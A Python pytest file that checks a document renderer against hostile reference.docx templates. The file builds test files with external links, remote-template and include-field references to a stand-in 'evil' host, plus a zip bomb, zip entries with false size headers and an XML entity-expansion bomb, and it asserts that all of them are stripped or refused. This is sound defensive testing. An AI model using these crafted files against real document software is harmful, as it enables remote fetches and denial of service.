"""A workspace's reference.docx gives styles and page setup only; hostile or huge ones are refused."""

from __future__ import annotations

import re
import struct
import time
import zipfile
from pathlib import Path

import docx
import pytest
from docx.shared import RGBColor

from hyteplan.errors import HyteplanError
from hyteplan.render import convert
from hyteplan.render.templates import packaged_templates_dir

PACKAGED = packaged_templates_dir() / "reference.docx"
W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R_NS = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
EVIL = "http://127.0.0.1:9/evil"

HEADER = (
    f'<?xml version="1.0" encoding="UTF-8"?><w:hdr {W_NS} {R_NS}>'
    '<w:p><w:pPr><w:pStyle w:val="Header"/></w:pPr>'
    "<w:r><w:t>Kunta X</w:t></w:r><w:r><w:tab/></w:r>"
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    f'<w:r><w:instrText> INCLUDEPICTURE "{EVIL}/pic.png" \\d </w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>CACHED</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    f'<w:fldSimple w:instr=" INCLUDETEXT &quot;{EVIL}/text.docx&quot; "><w:r><w:t>INC</w:t></w:r>'
    "</w:fldSimple>"
    '<w:hyperlink r:id="rIdLink"><w:r><w:t>linkki</w:t></w:r></w:hyperlink>'
    '<w:r><w:t xml:space="preserve"> sivu </w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    "<w:r><w:instrText> PAGE </w:instrText></w:r>"
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    "</w:p></w:hdr>"
)


def _edit(parts: dict[str, bytes], name: str, old: str, new: str) -> None:
    text = parts[name].decode("utf-8")
    assert old in text, (name, old)
    parts[name] = text.replace(old, new, 1).encode("utf-8")


def _hostile_reference(path: Path) -> None:
    with zipfile.ZipFile(PACKAGED) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    _edit(
        parts,
        "word/_rels/document.xml.rels",
        "</Relationships>",
        f'<Relationship Id="rIdEvil" Type="{REL}image" Target="{EVIL}/a.png" '
        'TargetMode="External"/>'
        f'<Relationship Id="rIdHdr" Type="{REL}header" Target="header1.xml"/>'
        f'<Relationship Id="rIdOut" Type="{REL}header" Target="{EVIL}/h.xml" '
        'TargetMode="External"/></Relationships>',
    )
    parts["word/header1.xml"] = HEADER.encode("utf-8")
    parts["word/_rels/header1.xml.rels"] = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        f'openxmlformats.org/package/2006/relationships"><Relationship Id="rIdLink" '
        f'Type="{REL}hyperlink" Target="{EVIL}/link" TargetMode="External"/></Relationships>'
    ).encode("utf-8")
    _edit(
        parts,
        "word/settings.xml",
        '<w:zoom w:percent="100" />',
        '<w:zoom w:percent="100" /><w:attachedTemplate r:id="rIdTpl"/>',
    )
    parts["word/_rels/settings.xml.rels"] = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        f'openxmlformats.org/package/2006/relationships"><Relationship Id="rIdTpl" '
        f'Type="{REL}attachedTemplate" Target="{EVIL}/t.dotm" TargetMode="External"/>'
        "</Relationships>"
    ).encode("utf-8")
    _edit(
        parts,
        "word/document.xml",
        '<w:sectPr><w:footerReference w:type="default" r:id="rIdHyteFooter1" />',
        '<w:sectPr><w:headerReference w:type="default" r:id="rIdHdr" />'
        '<w:headerReference w:type="first" r:id="rIdOut" />'
        '<w:footerReference w:type="default" r:id="rIdHyteFooter1" />',
    )
    _edit(
        parts,
        "word/document.xml",
        '<w:pgSz w:w="11906" w:h="16838" />',
        '<w:pgSz w:w="12240" w:h="15840" />',
    )
    styles = parts["word/styles.xml"].decode("utf-8")
    styles = re.sub(
        r'(w:styleId="Heading1".*?<w:color w:val=")[0-9A-F]{6}',
        r"\g<1>FF0000",
        styles,
        count=1,
        flags=re.S,
    )
    parts["word/styles.xml"] = styles.encode("utf-8")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)


def _docx(tmp_path: Path, reference: Path) -> Path:
    work = tmp_path / "work"
    work.mkdir(exist_ok=True)
    data = convert.to_docx("# Otsikko\n\nTeksti.\n", work, reference, 0)
    out = tmp_path / "out.docx"
    out.write_bytes(data)
    assert sorted(p.name for p in work.iterdir()) == []
    return out


def test_hostile_reference_docx_gives_styles_and_page_setup_only(tmp_path: Path) -> None:
    reference = tmp_path / "reference.docx"
    _hostile_reference(reference)
    out = _docx(tmp_path, reference)
    with zipfile.ZipFile(out) as z:
        everything = "\n".join(z.read(n).decode("utf-8", "replace") for n in z.namelist())
        rels = [n for n in z.namelist() if n.endswith(".rels")]
        assert not any('TargetMode="External"' in z.read(n).decode() for n in rels)
    for forbidden in ("127.0.0.1", "INCLUDEPICTURE", "INCLUDETEXT", "attachedTemplate", "CACHED"):
        assert forbidden not in everything
    document = docx.Document(str(out))
    section = document.sections[0]
    assert round(section.page_width.mm, 1) == 215.9  # the workspace's page setup (Letter)
    assert document.styles["Heading 1"].font.color.rgb == RGBColor(0xFF, 0, 0)
    header = "".join(p.text for p in section.header.paragraphs)
    assert "Kunta X" in header and "linkki" in header and "sivu" in header
    assert " PAGE " in everything  # the page-number field survives


def test_workspace_reference_docx_without_page_setup_keeps_hyteplans_footer(
    tmp_path: Path,
) -> None:
    with zipfile.ZipFile(PACKAGED) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    _edit(parts, "word/document.xml", "<w:sectPr>", "<w:p/><w:removed>")
    _edit(parts, "word/document.xml", "</w:sectPr>", "</w:removed>")
    reference = tmp_path / "reference.docx"
    with zipfile.ZipFile(reference, "w") as z:
        for name, data in parts.items():
            z.writestr(name, data)
    document = docx.Document(str(_docx(tmp_path, reference)))
    assert round(document.sections[0].page_width.mm) == 210


def _zip(path: Path, parts: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)


def _refused_fast(tmp_path: Path, reference: Path) -> HyteplanError:
    start = time.monotonic()
    with pytest.raises(HyteplanError) as caught:
        _docx(tmp_path, reference)
    assert time.monotonic() - start < 1.0
    assert "\n" not in caught.value.message and caught.value.hint
    assert str(reference) in caught.value.message
    return caught.value


def test_a_part_that_unpacks_to_too_much_is_refused_in_well_under_a_second(
    tmp_path: Path,
) -> None:
    reference = tmp_path / "reference.docx"
    _zip(reference, {"word/styles.xml": b"<w:styles>" + b" " * 30_000_000 + b"</w:styles>"})
    _refused_fast(tmp_path, reference)


def test_declared_sizes_that_lie_are_not_trusted(tmp_path: Path) -> None:
    reference = tmp_path / "reference.docx"
    _zip(reference, {"word/styles.xml": b"<w:styles>" + b" " * 30_000_000 + b"</w:styles>"})
    raw = bytearray(reference.read_bytes())
    local = raw.index(b"PK\x03\x04")
    central = raw.index(b"PK\x01\x02")
    struct.pack_into("<I", raw, local + 22, 1000)  # uncompressed size, local header
    struct.pack_into("<I", raw, central + 24, 1000)  # uncompressed size, central directory
    reference.write_bytes(bytes(raw))
    _refused_fast(tmp_path, reference)


def test_too_many_parts_are_refused(tmp_path: Path) -> None:
    reference = tmp_path / "reference.docx"
    _zip(reference, {f"word/media/x{i}.png": b"" for i in range(1001)})
    _refused_fast(tmp_path, reference)


@pytest.mark.parametrize("content", [b"PK not a zip", None], ids=["not-a-zip", "entity-expansion"])
def test_broken_or_entity_declaring_reference_is_a_user_error(
    tmp_path: Path, content: bytes | None
) -> None:
    reference = tmp_path / "reference.docx"
    if content is None:
        bomb = (
            b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">'
            b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><w:styles>&b;</w:styles>'
        )
        _zip(reference, {"word/styles.xml": bomb})
    else:
        reference.write_bytes(content)
    _refused_fast(tmp_path, reference)


def test_packaged_reference_docx_is_used_as_it_is(tmp_path: Path) -> None:
    document = docx.Document(str(_docx(tmp_path, PACKAGED)))
    assert round(document.sections[0].page_width.mm) == 210
